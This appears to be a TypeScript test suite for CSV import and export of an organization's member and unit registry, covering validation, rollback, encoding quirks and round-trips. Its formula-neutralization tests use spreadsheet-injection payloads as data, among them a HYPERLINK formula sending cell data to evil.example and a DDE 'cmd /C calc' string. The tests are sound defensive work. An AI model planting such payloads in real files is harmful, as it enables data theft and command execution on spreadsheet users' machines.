import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { templateRulebook } from '../core/rulebook/templates.js';
import type { AppError } from '../core/errors.js';
import { admitMember } from './admit-member.js';
import { type AppContext } from './context.js';
import { createOrg } from './create-org.js';
import { exportMembers, exportUnits } from './export-csv.js';
import { importMembers } from './import-members.js';
import { importUnits } from './import-units.js';
import { getMember, listMembers } from './member-queries.js';
import { getUnit, listUnits } from './unit-queries.js';
import { verifyCounters } from './verify-counters.js';
import { expectError } from '../test-support/expect-error.js';
import { dialectNames, postgresAvailable } from '../test-support/test-databases.js';
import { useFreshContext } from '../test-support/fresh-context.js';

const HEADER = 'member_no,family_name,given_name,birth_date,unit_code,status,joined_on,phone,email';

const UNITS = [
  'code,name,kind,parent_code',
  'CC,Central Committee,central_committee,',
  'P1,North Province,provincial_committee,CC',
  'P1-C1,River County,county_committee,P1',
  'P1-C1-P1,Mill Works Primary,primary_committee,P1-C1',
  'P1-C1-P1-S,Weaving Section,sectional_committee,P1-C1-P1',
  'CELL-A,Cell A,cell,P1-C1-P1-S',
  'CELL-B,"Cell B, dye shop",cell,P1-C1-P1',
].join('\n');

const MEMBERS = [
  HEADER,
  'M-001,김,민준,1990-03-01,CELL-A,full_member,2020-01-01,010-1234-5678,minjun@example.org',
  'M-002,이,서연,1985-12-24,CELL-A,candidate,2024-06-01,,',
  'M-003,Kim,Min-jun,,CELL-B,,2019-09-09,,MINJUN.KIM@Example.org',
  'M-004,박,지우,1970-01-01,,resigned,2001-01-01,,',
  'M-005,"O\'Neil, Jr.",Sean,1999-09-09,CELL-B,applicant,2026-11-01,,',
].join('\n');

async function text(gen: AsyncGenerator<string>): Promise<string> {
  let out = '';
  for await (const chunk of gen) out += chunk;
  return out;
}

for (const dialect of dialectNames) {
  describe.skipIf(dialect === 'postgres' && !postgresAvailable())(`CSV import and export on ${dialect}`, () => {
    let ctx: AppContext;
    useFreshContext(dialect, (c) => (ctx = c));

    async function freshOrg(slug = 'party'): Promise<string> {
      await createOrg(ctx, { slug, rulebook: templateRulebook('party') });
      return slug;
    }
    async function withUnits(slug = 'party'): Promise<string> {
      await freshOrg(slug);
      await importUnits(ctx, { org: slug, input: [UNITS], source: 'units.csv' });
      return slug;
    }
    /** Everything a user could see of an organization's registry, to compare before and after. */
    async function snapshot(slug: string): Promise<{ members: string; units: string; counters: unknown; roots: unknown }> {
      return {
        members: await text(exportMembers(ctx, { org: slug })),
        units: await text(exportUnits(ctx, { org: slug })),
        counters: await verifyCounters(ctx, slug),
        roots: (await listUnits(ctx, { org: slug, limit: 500 })).items.map((u) => [u.code, u.name, u.counts, u.version]),
      };
    }
    const problemsOf = (e: AppError): [number | undefined, string | undefined][] => e.problems.map((p) => [p.line, p.column]);

    it('imports units, then members, placing them and keeping counters', async () => {
      const slug = await freshOrg();
      const units = await importUnits(ctx, { org: slug, input: [UNITS], source: 'units.csv' });
      expect(units).toEqual({ dryRun: false, rows: 7, inserted: 7, updated: 0, unchanged: 0 });
      expect((await getUnit(ctx, slug, { code: 'CELL-B' })).name).toBe('Cell B, dye shop');

      const report = await importMembers(ctx, { org: slug, input: [MEMBERS], source: 'members.csv' });
      expect(report).toEqual({ dryRun: false, rows: 5, inserted: 5, updated: 0, unchanged: 0 });
      const m3 = await getMember(ctx, slug, { memberNo: 'M-003' });
      expect(m3).toMatchObject({ familyName: 'Kim', givenName: 'Min-jun', status: 'full_member', unitCode: 'CELL-B', email: 'minjun.kim@example.org', birthDate: null, placedOn: '2019-09-09' });
      expect((await getMember(ctx, slug, { memberNo: 'M-004' })).unitId).toBeNull();
      expect((await getMember(ctx, slug, { memberNo: 'M-005' })).familyName).toBe("O'Neil, Jr.");
      expect((await listMembers(ctx, { org: slug, q: '민준' })).items.map((m) => m.memberNo)).toEqual(['M-001']);
      // A member number finds its member (as typed, or in lower case), not others sharing its digits.
      expect((await listMembers(ctx, { org: slug, q: ' M-003 ' })).items.map((m) => m.memberNo)).toEqual(['M-003']);
      expect((await listMembers(ctx, { org: slug, q: 'm-005' })).items.map((m) => m.memberNo)).toEqual(['M-005']);
      expect((await getUnit(ctx, slug, { code: 'CELL-A' })).counts.directMembers).toBe(2);
      expect((await getUnit(ctx, slug, { code: 'CC' })).counts).toEqual({ directMembers: 0, subtreeMembers: 4, subtreeUnits: 7 });
      expect((await verifyCounters(ctx, slug)).mismatches).toEqual([]);
    });

    it('rejects a file with bad rows, lists every bad line with its column, and writes nothing', async () => {
      const slug = await withUnits();
      await importMembers(ctx, { org: slug, input: [MEMBERS], source: 'members.csv' });
      const before = await snapshot(slug);

      // Many good rows first, so a whole batch is written before the bad rows are reached: the
      // rollback has to undo it. Also an update of an existing member and rows without a number.
      const good = Array.from({ length: 1003 }, (_, i) => `N-${i},Person,No ${i},,CELL-B,full_member,2025-01-01,,`);
      const lines = [
        HEADER,
        'M-001,김,민준 (renamed),1990-03-01,CELL-B,full_member,2020-01-01,,', // 2: a valid update
        ',Auto,Numbered,,,applicant,,,', // 3: a valid row with a generated number
        ...good, // lines 4–1006
        'X-1,Bad,Date,1990-13-01,CELL-A,full_member,2020-01-01,,', // 1007
        'X-2,Bad,Unit,,NOPE,full_member,2020-01-01,,', // 1008
        'N-7,Dup,Number,,CELL-A,full_member,2020-01-01,,', // 1009: N-7 is on line 11
        'X-3,Bad,Status,,CELL-A,retired,2020-01-01,,', // 1010
        'X-4,Too,Few,,CELL-A,full_member,2020-01-01,', // 1011
        'X-5,Left,Placed,,CELL-A,resigned,2020-01-01,,', // 1012
        'X-6,Fine,Row,,CELL-A,candidate,2020-01-01,,', // 1013
        'X-7,,,2030-01-01,P1,full_member,2027-01-01,phone?,not-mail', // 1014: several problems in one row
      ];
      const e = await expectError(importMembers(ctx, { org: slug, input: [lines.join('\n') + '\n'], source: 'bad.csv' }), 'import_rejected', /nothing was written/);
      expect(problemsOf(e)).toEqual([
        [1007, 'birth_date'],
        [1008, 'unit_code'],
        [1009, 'member_no'],
        [1010, 'status'],
        [1011, '*'],
        [1014, 'family_name'],
        [1014, 'birth_date'],
        [1014, 'email'],
        [1014, 'phone'],
        [1014, 'joined_on'],
        [1014, 'unit_code'],
        [1012, 'unit_code'],
      ].sort((a, b) => Number(a[0]) - Number(b[0])));
      const message = (line: number) => e.problems.find((p) => p.line === line)?.message;
      expect(message(1007)).toMatch(/1990-13-01/);
      expect(message(1008)).toMatch(/no unit has code 'NOPE'/);
      expect(message(1009)).toMatch(/also on line 11/);
      expect(message(1010)).toMatch(/'retired' is not a status/);
      expect(message(1011)).toMatch(/8 fields; the header has 9/);
      expect(message(1012)).toMatch(/resigned member cannot be placed/);
      expect(e.problems.find((p) => p.line === 1014 && p.column === 'unit_code')?.message).toMatch(/holds no members/);

      expect(await snapshot(slug)).toEqual(before);
      expect((await getMember(ctx, slug, { memberNo: 'M-001' })).placements).toHaveLength(1);
      // The member number sequence was rolled back too: the next generated number is the first one.
      expect((await admitMember(ctx, { org: slug, familyName: 'Next', givenName: 'One' })).memberNo).toBe('P0000001');
    });

    it('re-importing the same file changes nothing', async () => {
      const slug = await withUnits();
      const first = await importMembers(ctx, { org: slug, input: [MEMBERS], source: 'members.csv' });
      expect(first.inserted).toBe(5);
      const before = await snapshot(slug);
      const events = (await getMember(ctx, slug, { memberNo: 'M-001' })).events.length;

      const again = await importMembers(ctx, { org: slug, input: [MEMBERS], source: 'members.csv' });
      expect(again).toEqual({ dryRun: false, rows: 5, inserted: 0, updated: 0, unchanged: 5 });
      const unitsAgain = await importUnits(ctx, { org: slug, input: [UNITS], source: 'units.csv' });
      expect(unitsAgain).toEqual({ dryRun: false, rows: 7, inserted: 0, updated: 0, unchanged: 7 });
      expect(await snapshot(slug)).toEqual(before);
      expect((await getMember(ctx, slug, { memberNo: 'M-001' })).events).toHaveLength(events);

      // A changed row updates only that member, and moves them with history.
      const changed = MEMBERS.replace('M-002,이,서연,1985-12-24,CELL-A,candidate', 'M-002,이,서연,1985-12-24,CELL-B,full_member');
      expect(await importMembers(ctx, { org: slug, input: [changed], source: 'members.csv' })).toEqual({ dryRun: false, rows: 5, inserted: 0, updated: 1, unchanged: 4 });
      const m2 = await getMember(ctx, slug, { memberNo: 'M-002' });
      expect(m2).toMatchObject({ status: 'full_member', unitCode: 'CELL-B' });
      expect(m2.placements.map((p) => p.unitCode)).toEqual(['CELL-A', 'CELL-B']);
      expect((await verifyCounters(ctx, slug)).mismatches).toEqual([]);
    });

    it('reads a BOM, semicolons, CRLF and quoted newlines, and counts lines like a text editor', async () => {
      const slug = await withUnits();
      const file =
        '\uFEFFmember_no;family_name;given_name;birth_date;unit_code;status;joined_on;phone;email\r\n' +
        'K-1;김;"민준\nMin-jun";1990-03-01;CELL-A;full_member;2020-01-01;;\r\n' + // lines 2–3
        'K-2;"이";"서연; 둘째";1991-04-02;CELL-A;full_member;2020-01-01;;\r\n' + // line 4
        '\r\n' + // line 5: blank
        'K-3;"남궁";"""별""\r\n빛";1992-05-03;CELL-B;candidate;2021-01-01;;\r\n'; // lines 6–7
      const report = await importMembers(ctx, { org: slug, input: [file], source: 'excel.csv' });
      expect(report).toMatchObject({ rows: 3, inserted: 3 });
      expect(await getMember(ctx, slug, { memberNo: 'K-1' })).toMatchObject({ familyName: '김', givenName: '민준\nMin-jun', unitCode: 'CELL-A' });
      expect((await getMember(ctx, slug, { memberNo: 'K-2' })).givenName).toBe('서연; 둘째');
      expect((await getMember(ctx, slug, { memberNo: 'K-3' })).givenName).toBe('"별"\r\n빛');
      expect((await listMembers(ctx, { org: slug, q: '남궁별빛' })).items.map((m) => m.memberNo)).toEqual(['K-3']);

      // The same file with bad rows after the multi-line records: the line numbers must match the file.
      const bad = file + 'K-4;최;"유\r\n나";1990-02-30;CELL-A;full_member;2020-01-01;;\r\n' + /* lines 8–9 */ 'K-5;정;하;;NOPE;full_member;2020-01-01;;\r\n'; /* line 10 */
      const e = await expectError(importMembers(ctx, { org: slug, input: [bad], source: 'excel.csv' }), 'import_rejected');
      expect(problemsOf(e)).toEqual([
        [8, 'birth_date'],
        [10, 'unit_code'],
      ]);

      // Streamed in small pieces (splitting multi-byte characters), the result is the same.
      const bytes = Buffer.from(bad);
      const pieces = Array.from({ length: Math.ceil(bytes.length / 7) }, (_, i) => bytes.subarray(i * 7, i * 7 + 7));
      const e2 = await expectError(importMembers(ctx, { org: slug, input: pieces, source: 'excel.csv' }), 'import_rejected');
      expect(problemsOf(e2)).toEqual(problemsOf(e));
    });

    it('maps file headers to columns, and refuses an unknown header by name', async () => {
      const slug = await withUnits();
      const file = ['Surname,Given names,Cell,Notes', '김,민준,CELL-A,likes tea', '이,서연,CELL-B,'].join('\n');
      const e = await expectError(importMembers(ctx, { org: slug, input: [file], source: 'list.csv' }), 'import_rejected', /header/);
      expect(e.problems.map((p) => p.column)).toEqual(['Surname', 'Given names', 'Cell', 'Notes', 'family_name', 'given_name']);
      expect(e.problems[3]?.message).toMatch(/unknown column 'Notes' \(field 4\)/);
      expect(e.problems[3]?.message).toMatch(/--map "Notes=-"/);
      expect(e.problems[4]?.message).toMatch(/required column 'family_name' is missing/);

      const partial = await expectError(
        importMembers(ctx, { org: slug, input: [file], source: 'list.csv', map: { Surname: 'family_name', 'Given names': 'given_name', Cell: 'unit_code' } }),
        'import_rejected',
      );
      expect(partial.problems.map((p) => [p.line, p.column])).toEqual([[1, 'Notes']]);

      const report = await importMembers(ctx, { org: slug, input: [file], source: 'list.csv', map: { Surname: 'family_name', 'Given names': 'given_name', Cell: 'unit_code', Notes: '-' } });
      expect(report.inserted).toBe(2);
      const all = (await listMembers(ctx, { org: slug })).items;
      expect(all.map((m) => [m.memberNo, m.familyName, m.givenName, m.status])).toEqual([
        ['P0000001', '김', '민준', 'full_member'],
        ['P0000002', '이', '서연', 'full_member'],
      ]);
      // Header names are matched without regard to case or surrounding spaces.
      const shouting = ' FAMILY_NAME , Given_Name \n박,지우\n';
      expect((await importMembers(ctx, { org: slug, input: [shouting], source: 'x.csv' })).inserted).toBe(1);
      await expectError(importMembers(ctx, { org: slug, input: [''], source: 'empty.csv' }), 'import_rejected', /empty/);
      const twice = await expectError(importMembers(ctx, { org: slug, input: ['family_name,given_name,Family_Name\na,b,c\n'], source: 'x.csv' }), 'import_rejected');
      expect(twice.problems[0]?.message).toMatch(/appears twice/);
    });

    it('a dry run checks and counts but writes nothing', async () => {
      const slug = await freshOrg();
      const unitsDry = await importUnits(ctx, { org: slug, input: [UNITS], source: 'units.csv', dryRun: true });
      expect(unitsDry).toEqual({ dryRun: true, rows: 7, inserted: 7, updated: 0, unchanged: 0 });
      expect((await listUnits(ctx, { org: slug })).items).toEqual([]);

      await importUnits(ctx, { org: slug, input: [UNITS], source: 'units.csv' });
      const before = await snapshot(slug);
      const dry = await importMembers(ctx, { org: slug, input: [MEMBERS], source: 'members.csv', dryRun: true });
      expect(dry).toEqual({ dryRun: true, rows: 5, inserted: 5, updated: 0, unchanged: 0 });
      expect(await snapshot(slug)).toEqual(before);
      expect((await listMembers(ctx, { org: slug })).items).toEqual([]);
      // A dry run of a bad file reports the same problems as the real import would.
      await expectError(importMembers(ctx, { org: slug, input: [MEMBERS + '\nM-9,X,Y,,NOPE,,,,'], source: 'm.csv', dryRun: true }), 'import_rejected');
    });

    it('rejects bad unit rows with every problem listed', async () => {
      const slug = await freshOrg();
      const file = [
        'code,name,kind,parent_code',
        'CC,Central Committee,central_committee,',
        'P1,North,provincial_committee,CC',
        'X1,Orphan,county_committee,NOPE', // 4: unknown parent
        'X2,Wrong,cell,CC', // 5: a cell under the central committee
        'P1,Again,provincial_committee,CC', // 6: duplicate code
        'bad code!,Name,cell,P1', // 7
        'X3,Odd,nonsense,P1', // 8
      ].join('\n');
      const e = await expectError(importUnits(ctx, { org: slug, input: [file], source: 'u.csv' }), 'import_rejected');
      expect(problemsOf(e)).toEqual([
        [4, 'parent_code'],
        [5, 'kind'],
        [6, 'code'],
        [7, 'code'],
        [7, 'kind'],
        [8, 'kind'],
      ]);
      expect((await listUnits(ctx, { org: slug })).items).toEqual([]);
    });

    it('neutralizes spreadsheet formulas in every exported value', async () => {
      const slug = await withUnits();
      const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1', '@SUM(A1:A9)', '  -2+3', '\tcmd', '=1+1', '-cmd|\' /C calc\'!A0'];
      for (const [i, p] of payloads.entries()) {
        await admitMember(ctx, { org: slug, memberNo: `F-${i}`, familyName: p, givenName: p, unit: { code: 'CELL-A' }, phone: '+82 10 5555 0000', email: `-x${i}@example.org` });
      }
      const csvText = await text(exportMembers(ctx, { org: slug }));
      expect(csvText.startsWith('\uFEFFmember_no,')).toBe(true);
      const rows = parse(csvText, { bom: true }) as string[][];
      expect(rows[0]).toEqual(HEADER.split(','));
      expect(rows).toHaveLength(1 + payloads.length);
      for (const row of rows.slice(1)) {
        const [, family, given, , , , , phone, email] = row;
        for (const value of [family, given, phone, email]) {
          // Leading whitespace is trimmed when a name is stored, so '\tcmd' is kept as the harmless 'cmd'.
          if (value !== 'cmd') expect(value?.startsWith("'"), String(value)).toBe(true);
        }
        // Nothing left that a spreadsheet would run, even after leading whitespace.
        for (const value of row) expect(value).not.toMatch(/^\s*[=+\-@\t\r]/);
      }
      expect((await getMember(ctx, slug, { memberNo: 'F-4' })).familyName).toBe('cmd');
      const units = parse(await text(exportUnits(ctx, { org: slug })), { bom: true }) as string[][];
      expect(units.map((u) => u[0])).toEqual(['code', 'CC', 'P1', 'P1-C1', 'P1-C1-P1', 'P1-C1-P1-S', 'CELL-A', 'CELL-B']);
    });

    it('exports re-import into a fresh organization identically', async () => {
      const slug = await withUnits();
      await importMembers(ctx, { org: slug, input: [MEMBERS], source: 'members.csv' });
      await admitMember(ctx, { org: slug, familyName: '=HYPERLINK("http://evil.example","x")', givenName: '+1', unit: { code: 'CELL-A' }, phone: '+82 10 1234 5678', email: 'x@example.org', birthDate: '2000-02-29' });
      await admitMember(ctx, { org: slug, familyName: '남궁', givenName: '"별"\n빛, 둘째', unit: { code: 'CELL-B' }, status: 'candidate' });
      const source = await snapshot(slug);

      const copy = await freshOrg('copy');
      const unitChunks: string[] = [];
      for await (const c of exportUnits(ctx, { org: slug })) unitChunks.push(c);
      const memberChunks: string[] = [];
      for await (const c of exportMembers(ctx, { org: slug })) memberChunks.push(c);
      expect(await importUnits(ctx, { org: copy, input: unitChunks, source: 'units.csv' })).toMatchObject({ inserted: 7 });
      expect(await importMembers(ctx, { org: copy, input: memberChunks, source: 'members.csv' })).toMatchObject({ inserted: 7 });

      const copied = await snapshot(copy);
      expect(copied.members).toBe(source.members);
      expect(copied.units).toBe(source.units);
      expect(copied.counters).toEqual(source.counters);
      // Not only the text: the stored values are the originals, not their neutralized form.
      const strip = (m: { memberNo: string; familyName: string; givenName: string; birthDate: string | null; phone: string | null; email: string | null; status: string; joinedOn: string }) =>
        [m.memberNo, m.familyName, m.givenName, m.birthDate, m.phone, m.email, m.status, m.joinedOn];
      expect((await listMembers(ctx, { org: copy })).items.map(strip)).toEqual((await listMembers(ctx, { org: slug })).items.map(strip));
      expect((await getUnit(ctx, copy, { code: 'CC' })).counts).toEqual((await getUnit(ctx, slug, { code: 'CC' })).counts);
      // And the copy re-imports into itself as unchanged.
      expect(await importMembers(ctx, { org: copy, input: memberChunks, source: 'members.csv' })).toMatchObject({ inserted: 0, updated: 0, unchanged: 7 });
    });
  });
}
